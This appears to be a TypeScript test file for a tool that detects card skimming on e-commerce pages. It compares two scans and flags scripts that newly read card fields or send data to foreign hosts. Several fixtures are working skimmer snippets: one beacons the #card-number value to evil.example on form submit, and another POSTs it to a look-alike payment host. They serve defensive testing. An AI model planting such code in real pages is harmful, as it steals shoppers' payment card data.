import { describe, expect, it } from 'vitest'
import type { Capture, CapturedScript } from '#capture/index.ts'
import { compareVisited, inStripesFrame, told, type Visit } from '../../helpers/compare.ts'
import { makeBehaviour, makeBodies, makeCanary, makeDocument, makeField, makeScript } from '../../helpers/make-capture.ts'

const bodies = makeBodies()
const app = 'https://shop.example/app.js'
const tag = 'https://tags.vendor.example/t.js'
const script = (url: string | null, text: string, given: Partial<CapturedScript> = {}) => makeScript(bodies, { url, text, ...given })
const visit = (scripts: CapturedScript[], capture: Partial<Capture> = {}): Visit => ({ capture: { scripts, ...capture }, bodies })
const unread = (of: Visit): Visit => ({ ...of, forgets: true })
const partial = (code: 'timeout' | 'dialog-held'): Partial<Capture> => ({
  outcome: {
    status: 'partial',
    code,
    cause: { code: 'words', values: { text: '' } },
    issues: [{ code, cause: { code: 'words', values: { text: '' } }, frameId: null, atMs: 1 }],
  },
})
const failed: Visit = {
  capture: { outcome: { status: 'failed', code: 'bot-wall', cause: { code: 'words', values: { text: '' } }, issues: [] } },
}

const sum = 'function total(items) { return items.reduce(function (a, b) { return a + b.price }, 0) } window.total = total'
const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`

describe('two scans of a page', () => {
  it('list the lines of many places in a long script at once, counting every kind of line end', () => {
    const many = Array.from({ length: 3_000 }, (_, n) => `fetch('https://h${n}.example/')${['\n', '\r', '\u2028'][n % 3]}`).join('')
    const [change] = compareVisited(visit([]), visit([script(app, many)])).changes
    expect(change?.reasons.length).toBeLessThanOrEqual(41)
    expect(change?.lines[0]?.after?.[0]).toBe(1)
    expect(change?.lines.at(-1)?.after?.[1]).toBeGreaterThan(100)
  })

  it('read bytes like browsers: text appended to a UTF-16 script is seen', () => {
    const utf16 = (text: string) => new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')])
    const given = (text: string): Visit => visit([makeScript(bodies, { url: app, bytes: utf16(text) })])
    expect(compareVisited(given(sum), given(steals)).changes).toMatchObject([{ verdict: 'malicious' }])
  })

  it('with the same content have no change and omit nothing', () => {
    const one = visit([script(app, sum), script(null, 'var cart = 1'), script(tag, 'var t = 2')])
    expect(compareVisited(one, one)).toEqual({
      changes: [],
      notCompared: [],
      summary: expect.objectContaining({ alert: false, scripts: { same: 3, changed: 0, added: 0, removed: 0 } }),
    })
  })

  it('report immediately a script that can newly send typed data, with the host and the lines', () => {
    const compared = compareVisited(visit([script(app, sum)]), visit([script(app, `// cart\n${steals}`)]))
    expect(compared.summary).toMatchObject({ alert: true, scripts: { changed: 1 } })
    const [change] = compared.changes
    expect(change).toMatchObject({ kind: 'script-changed', subject: 'shop.example/app.js' })
    expect(change?.newCapabilities.map(({ sentence }) => sentence).join(' ')).toContain('to evil.example.')
    expect(change?.lines.map(({ after }) => after)).toContainEqual([2, 2])
  })

  it('treat a script with other names or data as rebuilt, and the same script under another hash in its address as unchanged', () => {
    const renamed = sum.replaceAll('items', 'x').replaceAll('total', 'total')
    expect(told(compareVisited(visit([script(app, sum)]), visit([script(app, renamed)])))).toEqual(['script-changed rebuild: renamed'])
    const hashed = (hash: string) => visit([script(`https://shop.example/app.${hash}.js`, sum)])
    expect(compareVisited(hashed('3f2a9c1b'), hashed('9c1b3f2a')).changes).toEqual([])
  })

  it('do not treat unparsable code, or code in which only data adds a capability, as unchanged', () => {
    const broken = (host: string) => visit([script(app, `var a = ;;( "https://${host}/" `)])
    expect(told(compareVisited(broken('a.example'), broken('b.example')))).toEqual(['script-changed capability: host-changed'])
    const reads = (selector: string) => visit([script(app, `window.v = document.querySelector('${selector}').value`)])
    expect(compareVisited(reads('#search'), reads('#card-number')).summary.alert).toBe(true)
  })

  it('put an inline script with only different data into the digest, with or without its stored code', () => {
    const [one, other] = [1, 2].map((n) => visit([script(null, `window.cart = { total: ${n}, id: "c${n}" }`)])) as [Visit, Visit]
    expect(compareVisited(one, other).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
    expect(compareVisited(unread(one), unread(other)).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
  })

  it('keep and show masked text in short pieces with their lines, and lost capabilities of a script', () => {
    const carts = (what: string) => Array.from({ length: 30 }, (_, n) => `add(${n}, "${what}${n}7c2e9f41b06d${what}")`).join('\n')
    const [change] = compareVisited(visit([script(null, carts('4d'))]), visit([script(null, carts('e1'))])).changes
    expect(change?.verdict).toBe('rebuild')
    expect(change?.masked).toHaveLength(20)
    expect(change?.masked[1]).toEqual({ before: '4d17c2e9f41b06d4d', after: 'e117c2e9f41b06de1', lines: { before: [2, 2], after: [2, 2] } })
    const long = (end: string) => `window.cart = ${JSON.stringify({ note: 'n'.repeat(900), name: end, more: 'm'.repeat(900) })}`
    const [piece] = compareVisited(visit([script(null, long('Mug'))]), visit([script(null, long('Cap'))])).changes[0]?.masked ?? []
    expect(piece?.after).toMatch(/^….{0,30}Cap.{1,120}$/)
    expect(piece?.after.length).toBeLessThanOrEqual(120)
    const less = compareVisited(visit([script(app, steals)]), visit([script(app, sum)])).changes[0]
    expect(less?.goneCapabilities.map(({ sentence }) => sentence)).toContain('Sends card data to evil.example.')
  })

  it('report the changed one of two similar inline scripts', () => {
    const code = (what: string) =>
      `function push(q, what) { q.push([what, q.length]) } function queue() { return window.q || (window.q = []) } push(queue(), ${what})`
    const [twin, turned] = [code('document.title'), code("document.querySelector('#card-number').value")]
    const compared = compareVisited(visit([script(null, twin), script(null, twin)]), visit([script(null, twin), script(null, turned)]))
    expect(compared.changes.map(({ kind, verdict }) => [kind, verdict])).toEqual([['script-changed', 'capability']])
    expect(compared.summary.scripts).toMatchObject({ same: 1, changed: 1 })
  })

  it('do not treat changed content as unchanged if its code is unavailable', () => {
    const compared = compareVisited(unread(visit([script(app, sum)])), unread(visit([script(app, steals)])))
    expect(told(compared)).toEqual(['script-changed capability: not-judged'])
  })

  it('raise an alert for a new third-party script, and rate a new one of the site by its capabilities', () => {
    const none = visit([])
    expect(told(compareVisited(none, visit([script(tag, 'var t = 2')])))[0]).toBe(
      'script-added capability: unknown-host script-added nothing-found third-party',
    )
    expect(told(compareVisited(none, visit([script(app, sum)])))).toEqual(['script-added rebuild: script-added nothing-found'])
    expect(compareVisited(none, visit([script(app, steals)])).changes[0]).toMatchObject({ kind: 'script-added', verdict: 'malicious' })
  })

  it('do not treat the site’s own absolute address as a stranger’s, nor sending the card there as harmless', () => {
    const pays = (to: string) =>
      script(app, `${sum}; fetch('https://${to}/pay', { method: 'POST', body: document.querySelector('#card-number').value })`)
    const verdicts = (to: string) => compareVisited(visit([]), visit([pays(to)])).changes.map(({ verdict }) => verdict)
    expect([verdicts('api.shop.example'), verdicts('api.shop-pay.example')]).toEqual([['capability'], ['malicious']])
  })

  it('ignore a script that was never received, and rate its first content like a new script', () => {
    const missing = script(app, '', { state: 'failed', digest: null, textSha256: null, sizeBytes: null })
    expect(compareVisited(visit([missing]), visit([missing]))).toMatchObject({ changes: [], notCompared: [] })
    expect(compareVisited(visit([missing]), visit([script(app, steals)])).changes[0]).toMatchObject({
      kind: 'script-changed',
      verdict: 'malicious',
    })
    const ran = script(app, '', { digest: null, textSha256: null, sizeBytes: null })
    expect(compareVisited(visit([ran]), visit([script(app, steals)])).notCompared).toEqual([
      {
        subject: 'shop.example/app.js',
        about: { code: 'named', given: { name: 'shop.example/app.js' } },
        why: { code: 'no-content', given: { scan: 'before' }, sentence: 'The earlier scan did not receive its content.' },
      },
    ])
    expect(compareVisited(visit([ran]), visit([script(app, steals)])).summary.scripts).toMatchObject({ same: 0, changed: 0 })
  })

  it('put a new script that does not run into the digest', () => {
    const blocked = script(tag, steals, { state: 'blocked', blocked: { by: 'csp', detail: '' } })
    expect(told(compareVisited(visit([]), visit([blocked])))).toEqual(['script-added rebuild: script-added does-not-run'])
  })

  it('put changes in a payment provider’s frame into the digest, since the provider is responsible for them', () => {
    const inFrame = (text: string) => visit([script('https://js.stripe.com/v3/controller.js', text, { frameId: 'pay' })], inStripesFrame())
    const compared = compareVisited(inFrame(sum), inFrame(steals))
    expect(compared.changes.map(({ kind, verdict }) => [kind, verdict])).toEqual([['script-changed', 'rebuild']])
  })

  it('put a removed script into the digest, or report it as unknown if the visit is partial', () => {
    const one = visit([script(app, sum)])
    expect(told(compareVisited(one, visit([])))).toEqual(['script-removed removed: script-removed'])
    const unsure = compareVisited(one, visit([], partial('timeout')))
    expect(unsure.changes).toEqual([])
    expect(unsure.notCompared.map(({ subject }) => subject)).toContain('shop.example/app.js')
    expect(unsure.summary.scripts).toEqual({ same: 0, changed: 0, added: 0, removed: 0 })
    expect(told(compareVisited(one, visit([], partial('dialog-held'))))).toEqual(['script-removed removed: script-removed'])
  })

  it('say that a new script after a partial visit may have existed before', () => {
    const compared = compareVisited(visit([], partial('timeout')), visit([script(app, steals)]))
    expect(compared.changes[0]?.reasons.at(-1)).toEqual({
      code: 'before-partial',
      given: { what: 'script', outcome: 'timeout' },
      sentence: 'The earlier scan is partial. The scan reached its time limit. The script might already have been there.',
    })
  })

  it('are not compared if one was not evaluated', () => {
    const compared = compareVisited(visit([script(app, sum)]), failed)
    expect(compared).toMatchObject({ changes: [], summary: { alert: false, scripts: null } })
    expect(compared.notCompared).toMatchObject([
      { subject: 'the page', why: { sentence: 'The later scan was not evaluated. The server returned a bot wall instead of the page.' } },
    ])
  })

  it('of a desktop and a phone differ in what only one received, in either order', () => {
    const mobile = (of: Visit): Visit => ({ ...of, result: (result) => ({ ...result, profile: 'mobile' }) })
    const [clean, dirty] = [visit([script(app, sum)]), visit([script(app, sum), script('https://shop.example/m.js', steals)])]
    for (const pair of [
      [clean, mobile(dirty)],
      [dirty, mobile(clean)],
    ] as const) {
      const [change] = compareVisited(...pair).changes
      expect(change).toMatchObject({ kind: 'profile', verdict: 'malicious', subject: 'shop.example/m.js' })
      expect(change?.reasons[0]?.code).toBe('profile-differs')
      // Two profiles have no before and after.
      expect(change?.reasons.map(({ code }) => code)).not.toContain('script-added')
    }
  })
})

describe('new findings of a scan', () => {
  const typed = { fields: [makeField()] }
  const sent = (scripts: CapturedScript[]): Visit =>
    visit(scripts, { ...typed, canary: makeCanary([{ url: 'https://evil.example/c', scriptId: scripts[0]?.id ?? null }]) })
  const searched = (scripts: CapturedScript[]): Visit => visit(scripts, { ...typed, canary: makeCanary() })

  it("raise the severity of the script's change: the test card left the page", () => {
    const [one, other] = [script(app, sum), script(app, steals)]
    const { changes } = compareVisited(searched([one]), sent([other]))
    expect(changes[0]).toMatchObject({ kind: 'script-changed', verdict: 'malicious' })
    expect(changes[0]?.reasons.map(({ code }) => code)).toContain('canary-left-page')
    expect(changes.filter(({ kind }) => kind === 'finding')).toEqual([])
  })

  it('are a separate change if the script’s bytes are the same', () => {
    const same = script(app, sum)
    expect(told(compareVisited(searched([same]), sent([same])))[0]).toBe('finding malicious: canary-left-page')
    expect(compareVisited(sent([same]), sent([same])).changes).toEqual([])
  })

  it('are not reported without a typed card in both visits, and do not count as clean', () => {
    const compared = compareVisited(searched([]), visit([], typed))
    expect(compared.notCompared).toContainEqual(
      expect.objectContaining({
        subject: 'Script behavior while the card is typed',
        why: expect.objectContaining({ code: 'no-test-card' }),
      }),
    )
  })

  it('under other rules are reported only for theft, and the rest as not compared', () => {
    const [read, calm] = [script(app, sum), script(app, sum)]
    const reads = visit([read], { ...typed, behaviours: [makeBehaviour({ scriptId: read.id })], canary: makeCanary() })
    expect(told(compareVisited(searched([calm]), reads)).join()).toContain('reads-card-field')
    const older: Visit = { ...searched([calm]), result: (result) => ({ ...result, rulesVersion: '2020.1' }) }
    const compared = compareVisited(older, reads)
    expect(compared.changes).toEqual([])
    expect(compared.notCompared.map(({ subject }) => subject)).toEqual(['findings'])
  })

  it('do not repeat the comparison of headers', () => {
    const bare = visit([], { documents: [makeDocument({ headers: [['content-type', 'text/html']] })] })
    expect(new Set(compareVisited(visit([]), bare).changes.map(({ kind }) => kind))).toEqual(new Set(['header']))
  })

  it('from another browser are unknown if only one scan used one', () => {
    const looked: Visit = {
      ...visit([]),
      result: (result) => ({ ...result, cloakCheck: { state: 'compared', detail: '', detailCodes: [] } }),
    }
    expect(compareVisited(visit([]), looked).notCompared).toMatchObject([
      { subject: 'scripts received by another browser', why: { code: 'no-other-browser', given: { scan: 'before' } } },
    ])
    expect(compareVisited(looked, looked).notCompared).toEqual([])
  })
})

describe('hostile scans', () => {
  it('with names of prototypes, broken addresses, and unparsable code are compared without an exception', () => {
    const wild = (text: string): Visit => ({
      ...visit([script('https://shop.example/__proto__', text), script(null, text)], {
        documents: [
          makeDocument({
            headers: [
              ['content-security-policy', '__proto__ constructor; toString x'],
              ['set-cookie', '__proto__=1'],
              ['content-type', 'x'],
            ],
            base: 'http://[',
          }),
        ],
        fields: [makeField({ name: '__proto__' })],
      }),
      result: (result) => ({
        ...result,
        page: {
          ...result.page,
          frames: [...result.page.frames, { id: 'x', url: 'http://[', origin: 'null', scope: 'other' }],
          forms: [{ frameId: 'nowhere', method: '', action: 'javascript:void 0' }],
        },
      }),
    })
    expect(() => compareVisited(wild(`${'('.repeat(5_000)}\ufffd`), wild('constructor: while (__proto__) {'))).not.toThrow()
  })
})
